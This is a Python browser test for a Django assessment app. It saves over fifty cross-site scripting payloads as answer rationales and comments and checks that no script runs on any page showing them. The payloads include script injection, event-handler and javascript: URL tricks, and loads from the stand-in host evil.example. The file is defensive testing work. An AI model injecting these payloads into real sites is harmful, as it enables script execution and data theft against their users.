"""Rationales and comments that try to run something, on every page that shows them, without a policy.

The policy for contents (CSP) is switched off in these windows: what is tested is how texts are treated.
"""

from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import pytest
from django.utils import timezone
from playwright.sync_api import Browser, Dialog, Page, Request, expect

from assessments.actions import desk
from assessments.actions.authorship import add_co_author
from assessments.actions.recording import AnswerInput, save_ratings
from assessments.actions.review import start_review
from assessments.actions.submission import submit
from assessments.models import Assessment
from organisations.models import User
from tests.browser import Visitor
from tests.factories import AT, FrameworkFactory, OrganisationFactory, analyst, make_assessment, reviewer

pytestmark = pytest.mark.django_db(transaction=True)

RUN = "document.title='ran';alert(1)"
PAYLOADS = [
    # elements that run or load
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    f"</textarea><script>{RUN}</script>",
    f"</template></script><script>{RUN}</script>",
    f"<iframe src=\"javascript:{RUN}\"></iframe>",
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.svg>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<form action=https://evil.example/><button>Save</button></form>",
    "<img src=https://evil.example/pixel.png>",
    "<video src=https://evil.example/x.mp4 autoplay></video>",
    # attributes that run
    f"<img src=x onerror=\"{RUN}\">",
    f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img src=x onerror&#61;{RUN}>",
    f"<svg onload=\"{RUN}\">",
    f"<svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<p tabindex=1 onfocus={RUN} autofocus>x</p>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    # addresses that run
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](\x01javascript:{RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    f"<javascript:{RUN}>",
    f"[x][1]\n\n[1]: javascript:{RUN}",
    f"![x](javascript:{RUN})",
    "![x](https://evil.example/pixel.png)",
    # out of an attribute, a comment, a code span, a template
    f"[x](https://a.example \"onmouseover={RUN}\")",
    f"[x](https://a.example/\"onmouseover=\"{RUN})",
    f"`</code><script>{RUN}</script>`",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    "{{ 7|add:'7' }}{% debug %}<div hx-get=https://evil.example/ hx-trigger=load></div>",
    f"<a href=\"https://a.example\" onclick=\"{RUN}\" style=\"position:fixed;inset:0\">x</a>",
]  # fmt: skip
DANGEROUS = """() => [...document.querySelectorAll("main *")].flatMap((element) => [
    ...[...element.attributes].filter((one) => /^on/i.test(one.name) || one.name === "style")
        .map((one) => `${element.tagName} ${one.name}`),
    ...[...element.attributes].filter((one) => /^\\s*(javascript|data|vbscript):/i.test(one.value))
        .map((one) => `${element.tagName} ${one.value}`),
    ...(element.closest(".rationale") &&
        !/^(P|BR|STRONG|EM|CODE|UL|OL|LI|BLOCKQUOTE|A|DIV)$/.test(element.tagName) ? [element.tagName] : []),
])"""


@dataclass
class Watched:
    """A window without a policy, and everything in it that must not happen."""

    page: Page
    address: str
    seen: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.page.on("dialog", self._hear)
        self.page.on("request", self._follow)

    def _hear(self, dialog: Dialog) -> None:
        self.seen.append(f"{self.page.url}: {dialog.type} {dialog.message}")
        dialog.dismiss()

    def _follow(self, request: Request) -> None:
        if urlsplit(request.url).netloc != urlsplit(self.address).netloc:
            self.seen.append(request.url)

    def look(self, path: str) -> str:
        """What is on a page, with what was found wrong with it noted."""
        self.page.goto(self.address + path)
        self.page.wait_for_timeout(100)
        self.examine()
        return self.page.locator("main").inner_text()

    def examine(self) -> None:
        self.seen += [f"{self.page.url}: {one}" for one in self.page.evaluate(DANGEROUS)]
        if self.page.title() == "ran":
            self.seen.append(f"{self.page.url}: a script")


@pytest.fixture
def watched(browser: Browser, live_server: object) -> Iterator[Watched]:
    context = browser.new_context(bypass_csp=True, locale="en-GB")
    yield Watched(context.new_page(), str(live_server))
    context.close()


def carry_session_of(watched: Watched, person: User) -> None:
    Visitor(watched.page, watched.address).carry_session_of(person)


def drafts(assessor: User) -> list[Assessment]:
    """All payloads, each the whole rationale of an answer that could not be given."""
    framework, found = FrameworkFactory(), []
    for start in range(0, len(PAYLOADS), 3):
        draft = make_assessment(framework=framework, assessor=assessor)
        indicators = draft.applicable_indicators()
        given = [
            AnswerInput(indicator, non_score="insufficient_evidence", rationale=payload)
            for indicator, payload in zip(indicators, PAYLOADS[start : start + 3], strict=False)
        ]
        save_ratings(assessment=draft, answers=given, by=assessor, at=AT)
        found.append(draft)
    return found


def test_nothing_runs_on_any_page_that_shows_them(watched: Watched) -> None:
    assert len(PAYLOADS) >= 50
    assessor = analyst(OrganisationFactory())
    person = reviewer(assessor.memberships.get().organisation)
    read = ""
    for draft in drafts(assessor):
        carry_session_of(watched, assessor)
        here = f"/assessments/{draft.pk}/"
        for rating in draft.ratings.select_related("indicator"):
            desk.comment(
                assessment=draft, text=rating.rationale, by=assessor, at=AT, indicator=rating.indicator
            )
        for page in ("", "edit/P1/", "edit/PX/", "history/", "revisions/now/now/", "comments/"):
            read += watched.look(here + page)
        if draft.ratings.count() < 3:
            continue
        submit(assessment=draft, by=assessor, at=AT, reason="It stands.")
        start_review(assessment=draft, by=person, at=AT)
        carry_session_of(watched, person)
        assert "P1.1" in watched.look(f"{here}review/1/")
        assert "P1.1" in watched.look(here)
    assert f"<script>{RUN}</script>" in read, "they are shown as the words that they are"
    assert watched.seen == []


def test_nothing_runs_where_two_texts_are_settled_or_compared(watched: Watched) -> None:
    """Both sides of a conflict, and the words that differ between revisions, are hostile."""
    draft = make_assessment("returned", answers={"P1.1": 3})
    carry_session_of(watched, draft.assessor)
    watched.look(f"/assessments/{draft.pk}/")
    watched.page.get_by_role("button", name="Revise").click()
    other = analyst(draft.on_behalf_of)
    add_co_author(assessment=draft, person=other, by=draft.assessor, at=AT)
    page, field_of = watched.page, '[name="P1.1-rationale"]'
    for place in range(0, len(PAYLOADS), 6):
        watched.look(f"/assessments/{draft.pk}/edit/P1/")
        rating = draft.ratings.select_related("indicator").get(indicator__code="P1.1")
        theirs = "\n\n".join(PAYLOADS[place : place + 3])
        given = AnswerInput(rating.indicator, 2, "", theirs, "low", rating.version)
        save_ratings(assessment=draft, answers=[given], by=other, at=timezone.now())
        page.locator(field_of).fill("\n\n".join(PAYLOADS[place + 3 : place + 6]) + "mine")
        page.get_by_text("somebody has changed this answer").wait_for()
        watched.examine()
        page.get_by_role("button", name="Save what I chose").click()
        expect(page.locator('[id="indicator-P1.1"]').get_by_role("status")).to_contain_text("Saved ")
        watched.look(f"/assessments/{draft.pk}/history/?indicator=P1.1")
        watched.look(f"/assessments/{draft.pk}/revisions/1/now/")
    assert watched.seen == []


@pytest.mark.parametrize(
    "html",
    [
        f'<img src=x onerror="{RUN}">',
        '<a href="javascript:alert(1)">x</a>',
        '<img src="https://evil.example/pixel.png">',
        f"<svg onload={RUN}>",
        '<div class="rationale"><b>x</b></div>',
    ],
)
def test_what_would_run_is_seen(watched: Watched, html: str) -> None:
    """The control: put into a page as it is, each of them is noticed."""
    watched.look("/account/login/")
    assert watched.seen == []
    watched.page.evaluate("html => { document.querySelector('main').innerHTML = html }", html)
    watched.page.wait_for_timeout(200)
    watched.examine()
    assert watched.seen
